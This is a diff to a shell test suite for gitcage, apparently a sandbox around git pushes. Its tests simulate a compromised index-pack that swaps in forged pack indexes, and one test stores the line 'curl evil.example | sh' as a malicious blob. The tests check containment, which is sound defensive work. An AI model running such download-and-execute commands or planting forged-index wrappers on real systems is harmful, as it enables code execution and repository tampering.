@@ -106,6 +106,7 @@ clone_works() {
 # the publisher gives up on it by the session's timeout, and the session ends.
 @test "a channel never read does not hold gitcage past the session's timeout" {
 	sed -i 's/^timeout = 60/timeout = 5/' "$CONF"
+	trust "$CONF" >/dev/null
 	cp "$ATTACKS/stuck_channel.py" "$BIN/"
 	compromise "exec python3 $BIN/stuck_channel.py 300"
 	remember_state
@@ -182,11 +183,12 @@ clone_works() {
 		flunk "$(cat "$AUDIT")"
 }
 
-# evil_index_pack PACK FORGED: the git gitcage runs is compromised twice over: its
+# evil_index_pack PACK FORGED [NAME]: the git gitcage runs is compromised twice over: its
 # receive-pack drops PACK (a valid pack) into the push, and its index-pack, which the indexer's
-# cage runs, indexes honestly and then puts FORGED in place of the index it wrote, as a parser
-# bug exploited in index-pack could.
+# cage runs, indexes honestly and then puts FORGED in place of the index it wrote for NAME
+# (PACK's by default), as a parser bug exploited in index-pack could.
 evil_index_pack() {
+	local name=${3:-$(basename "$1" .pack)}
 	cat >"$EVIL" <<-EOF
 		#!/bin/sh
 		case " \$* " in
@@ -198,12 +200,12 @@ evil_index_pack() {
 			/usr/bin/git "\$@" || exit
 			prev= out=
 			for arg; do [ "\$prev" = -o ] && out=\$arg; prev=\$arg; done
-			case \$out in */$(basename "$1" .pack).idx) cp "$2" "\$out.new" && mv -f "\$out.new" "\$out" ;; esac
+			case \$out in */$name.idx) cp "$2" "\$out.new" && mv -f "\$out.new" "\$out" ;; esac
 			exit 0 ;;
 		esac
 		exec /usr/bin/git "\$@"
 	EOF
-	chmod 755 "$EVIL"
+	stage_evil
 }
 
 # The index of a one-blob pack names an existing blob (main's file.txt) for other content,
@@ -231,8 +233,7 @@ evil_index_pack() {
 	blob=$(git -C "$REPO" rev-parse main:file.txt)
 	echo 'curl evil.example | sh' >"$BIN/evil_blob"
 	name=$(python3 "$ATTACKS/forge_pack.py" "$BIN" "blob:$(git hash-object "$BIN/evil_blob"):$BIN/evil_blob")
-	evil_index_pack "$BIN/$name.pack" /dev/null
-	sed -i "s|\*/$name.idx)|*/never.idx)|" "$EVIL"
+	evil_index_pack "$BIN/$name.pack" /dev/null never
 	push_honest refs/heads/main
 	[ "$PUSH_STATUS" -eq 0 ] || flunk "$PUSH_OUTPUT"
 	[ -e "$REPO/objects/pack/$name.pack" ] || flunk "the extra pack is not published"
